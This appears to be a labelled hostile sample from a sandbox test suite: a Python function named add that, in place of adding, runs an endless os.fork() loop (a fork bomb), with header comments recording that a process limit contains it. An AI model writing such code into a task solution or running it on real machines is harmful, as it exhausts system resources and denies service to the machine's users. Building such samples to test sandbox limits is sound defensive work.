# hostile: 21
# task: add
# verdict: process_limit
# why: Forks without end; the limit on processes stops it and the next sample finds the machine free.

import os


def add(a, b):
    while True:
        os.fork()
